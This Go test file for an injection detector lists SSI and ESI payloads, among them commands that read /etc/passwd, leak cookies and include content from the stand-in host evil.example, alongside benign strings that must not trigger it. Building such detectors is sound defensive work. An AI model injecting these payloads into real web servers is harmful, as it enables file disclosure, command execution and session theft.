package signature_test

import "testing"

// Public payloads: OWASP's SSI injection testing guide, Apache's mod_include
// documentation, GoSecure's "Beyond XSS: Edge Side Include injection".
var ssiAttacks = []familyCase{
	{"q", `<!--#exec cmd="id" -->`, 0.99},
	{"q", `<!--#exec cmd="cat /etc/passwd"-->`, 0.99},
	{"q", `<!--#include virtual="/etc/passwd" -->`, 0.99},
	{"q", `<!--#include file="index.php"-->`, 0.99},
	{"q", `<!--#echo var="DOCUMENT_ROOT" -->`, 0.99},
	{"q", `<!--#config timefmt="%A" -->`, 0.99},
	{"q", `<!--#printenv -->`, 0.99},
	{"q", `<!--#set var="x" value="y" -->`, 0.99},
	{"q", `<!-- #exec cmd="ls" -->`, 0.99},
	{"q", `<!--#EXEC CMD="ls"-->`, 0.99},
	{"q", `<esi:include src="http://evil.example/"/>`, 0.99},
	{"q", `<esi:include src=http://evil.example/>`, 0.99},
	{"q", `<esi:vars>$(HTTP_COOKIE)</esi:vars>`, 0.99},
	{"q", `x=<esi:assign name="var1" value="'cript'"/>`, 0.99},
	{"q", `<esi:debug/>`, 0.99},
	{"q", `<!--esi <esi:include src="http://evil.example/"/> -->`, 0.99},
	{"q", `$(HTTP_COOKIE{'session'})`, 0.95},
	{"header:X-Filter", `<!--#exec cmd="ls" -->`, 0.99},
	{"body:application/json", `{"name":"<!--#echo var=\"DATE_LOCAL\" -->"}`, 0.99},
}

var ssiBenign = []familyCase{
	{"q", "<!-- a comment -->", 0},
	{"q", "<!--[if IE]>old browser<![endif]-->", 0},
	{"q", "issue #42 <!-- see above -->", 0},
	{"q", "costs $(5) in the old notation", 0},
	{"q", "the esi: acronym", 0},
}

func TestSSI(t *testing.T) { checkFamily(t, "ssi", ssiAttacks, ssiBenign, 0.9) }
